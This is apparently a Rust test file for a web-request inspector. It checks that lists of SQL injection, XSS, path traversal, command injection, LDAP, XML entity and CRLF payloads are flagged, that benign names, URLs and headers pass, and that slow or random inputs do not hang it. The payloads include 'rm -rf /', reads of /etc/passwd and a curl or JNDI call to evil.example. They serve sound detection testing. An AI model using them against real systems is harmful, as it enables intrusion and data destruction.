//! What is seen, and above all what is not.

use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::*;

const ATTACKS: &[(Violation, &[&str])] = &[
    (
        Violation::Sqli,
        &[
            "1' OR '1'='1",
            "' UNION SELECT password FROM users--",
            "1 UNION/**/SELECT NULL,NULL",
            "admin'--",
            "x'; DROP TABLE users; --",
            "1; INSERT INTO users VALUES (1)",
            "1 AND SLEEP(5)",
            "%27%20OR%201%3D1--",
            "%2527%2520OR%25201%253D1--",
            "{\"$where\": \"1\"}",
        ],
    ),
    (
        Violation::Xss,
        &[
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "\" onmouseover=\"x",
            "<iframe src=//evil.example>",
            "<svg/onload=alert(1)>",
            "%3Cscript%3E",
            "%253Cscript%253E",
            "data:text/html;base64,PHNjcmlwdD4=",
        ],
    ),
    (
        Violation::Traversal,
        &[
            "../../etc/hosts",
            "..\\..\\windows\\win.ini",
            "%2e%2e%2f%2e%2e%2f",
            "%252e%252e%252f",
            "..%c0%af..%c0%af",
            "....//....//",
            "..;/manager",
            "/etc/passwd",
            "a/../../b",
            "php://filter/read=convert.base64-encode/resource=index",
            "/proc/self/environ",
        ],
    ),
    (
        Violation::Command,
        &[
            "; cat /etc/motd",
            "| whoami",
            "`id`",
            "$(curl evil.example)",
            "x && rm -rf /",
            "a;${IFS}",
            "() { :; }; echo hi",
            "${jndi:ldap://evil.example/a}",
            "eval(atob)",
            "exec('x')",
            "powershell -enc AAAA",
        ],
    ),
    (
        Violation::Ldap,
        &["*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*)", "(|(cn=*)", "x)(|(password=*)"],
    ),
    (
        Violation::XmlEntity,
        &[
            "<!ENTITY x SYSTEM \"file:///x\">",
            "<!DOCTYPE foo [ <!ELEMENT foo ANY> ]>",
            "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\">",
            "<xi:include href=\"a\"/>",
        ],
    ),
    (
        Violation::Crlf,
        &[
            "a\r\nSet-Cookie: a=b",
            "a%0d%0aSet-Cookie:%20a=b",
            "a%250d%250aLocation:%20//evil.example",
            "x\nHTTP/1.1 200 OK",
            "嘊嘍Set-Cookie: a=b",
        ],
    ),
];

/// What honest callers write into metadata, headers and queries.
const BENIGN: &[&str] = &[
    "Please see the report (page 3).",
    "O'Brien",
    "Sinéad O'Connor & Sons, Ltd.",
    "D'Angelo; Rossi",
    "AT&T",
    "Amazon Kindle & Echo Dot",
    "rock | pop | jazz",
    "It's 5 o'clock -- somewhere",
    "Select the best option from the list, and order by name.",
    "Where does the union meet? Select all members.",
    "drop me a line; update follows",
    "I'd like 1 or 2, and 3 = three",
    "1 + 1 = 2",
    "50% off, 20%25 more",
    "100 % sure",
    "C:\\Users\\ana\\report.pdf",
    "/home/ana/reports/2026-11.pdf",
    "reports/2026/..hidden",
    "and so on... / etc.",
    "https://example.org/a/b?c=d&e=f#g",
    "https://en.wikipedia.org/wiki/SQL_injection",
    "https://example.org/search?q=O%27Brien&lang=en",
    "mailto:ana@example.org",
    "+49 (0)30 123456-78",
    "(555) 123-4567",
    "(0958)-184518",
    "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln; theme=dark; lang=en-GB",
    "a=1; id=5; path=/; Secure; HttpOnly; SameSite=Lax",
    "onboarding=1; online=true; once=2",
    "{\"a\": [1, 2, {\"b\": null}], \"c\": \"d's\"}",
    "{'name': 'ana', 'age': 3}",
    "[\"x\", \"y\"]",
    "f(x) = (a)(b)",
    "(a) (b) (c)",
    "price < 5 and size > 3",
    "a <b> c",
    "<ana@example.org>",
    "Ana <ana@example.org>, Bob <bob@example.org>",
    "first line\nsecond line\r\nthird: line",
    "W/\"33a64df5\"",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "okhttp/4.12.0",
    "\"Chromium\";v=\"130\", \"Google Chrome\";v=\"130\", \"Not?A_Brand\";v=\"99\"",
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
    "Bearer eyJhbGciOiJIUzI1NiJ9.e30.c2ln",
    "for=192.0.2.60;proto=http;by=203.0.113.43",
    "10.0.0.1, 192.168.0.1",
    "550e8400-e29b-41d4-a716-446655440000",
    "SGVsbG8gd29ybGQ=",
    "日本語のテキスト（括弧）；終わり",
    "Привет, как дела?",
    "🙂 (smile) 🙂",
    "¯\\_(ツ)_/¯",
    ":-) ;-) (-:",
    "feature/waf-123_fix",
    "C++ & C#: the (good) parts",
    "Tom & Jerry",
    "R&D; Q&A",
    "$100 (net)",
    "SELECT",
    "team: data; owner: ana; cost centre: 12-34",
];

#[test]
fn every_kind_of_attack_is_seen_in_every_place() {
    for (violation, values) in ATTACKS {
        for value in *values {
            for place in [Place::Path, Place::Query, Place::Header, Place::Id, Place::Metadata] {
                assert!(inspect(place, value).is_some(), "{place:?}: {value}");
            }
            let seen = inspect(Place::Metadata, value);
            assert_eq!(seen, Some(*violation), "{value}");
        }
    }
    let kinds: Vec<Violation> = ATTACKS.iter().map(|(violation, _)| *violation).collect();
    assert_eq!(kinds, Violation::ALL);
}

#[test]
fn names_urls_agents_tokens_and_json_pass() {
    for value in BENIGN {
        assert_eq!(inspect(Place::Metadata, value), None, "{value}");
        if !value.contains('\n') {
            assert_eq!(inspect(Place::Header, value), None, "{value}");
        }
    }
}

#[test]
fn a_line_break_is_a_violation_where_one_line_belongs() {
    for place in [Place::Path, Place::Query, Place::Header, Place::Id] {
        for value in ["a\nb", "a\rb", "a%0ab", "a%250Ab"] {
            assert_eq!(inspect(place, value), Some(Violation::Crlf), "{place:?} {value:?}");
        }
    }
    assert_eq!(inspect(Place::Metadata, "a\nb"), None);
}

#[test]
fn percent_signs_that_are_no_code_stay_as_they_are() {
    for raw in ["100%", "%", "%%", "%zz", "%+1", "5%2", "é%é", "%é1"] {
        assert_eq!(decoded(raw), None, "{raw}");
    }
    assert_eq!(decoded("%41%zz%42").unwrap(), "A%zzB");
    assert_eq!(decoded("%ff").unwrap(), "\u{fffd}");
}

/// Texts that make backtracking or nested readers slow.
fn slow_texts(length: usize) -> Vec<String> {
    [
        "'", "(", "/*", "<", "<!--", "%25", "../", "a' or ", "`", "\\", ")(", "<a ", "--", ";",
        "| ", "&#", "0x",
    ]
    .iter()
    .map(|unit| unit.repeat(length / unit.len()))
    .collect()
}

#[test]
fn the_longest_header_costs_little_whatever_it_holds() {
    inspect(Place::Metadata, "warm");
    for text in slow_texts(100_000) {
        let started = Instant::now();
        let _ = inspect(Place::Query, &text);
        let took = started.elapsed();
        // The bar of parsers is 100 ms; this build is not optimised.
        assert!(took < Duration::from_millis(1_000), "{}…: {took:?}", &text[..8]);
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, ..ProptestConfig::default() })]

    #[test]
    fn no_text_makes_the_reader_fall_over(
        text in "([\\PC\\r\\n\\t]|'|\"|--|/\\*|\\*/|<|>|%[0-9a-f]{2}|union|select|or|=|\\(|\\)|;|@){0,60}",
    ) {
        for place in [Place::Path, Place::Metadata] {
            let _ = inspect(place, &text);
        }
        let bytes = text.as_bytes();
        let _ = libinjectionrs::detect_sqli(bytes);
        let _ = libinjectionrs::detect_xss(bytes);
    }
}
